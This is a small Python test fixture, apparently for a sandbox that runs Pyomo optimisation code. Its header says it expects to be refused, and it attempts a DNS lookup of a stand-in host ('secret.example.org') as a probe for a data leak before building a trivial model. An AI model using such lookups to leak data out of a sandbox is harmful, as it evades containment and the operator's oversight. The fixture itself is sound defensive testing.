# Tries to leak through a name lookup.
# expect: refused
# protection: seccomp: socket | landlock: read /etc/*
import socket

import pyomo.environ as pyo


def attempt(data):
    socket.getaddrinfo("secret.example.org", 80)


def build_model(data):
    attempt(data)
    model = pyo.ConcreteModel()
    model.x = pyo.Var(bounds=(0, 42))
    model.best = pyo.Objective(expr=model.x, sense=pyo.maximize)
    return model
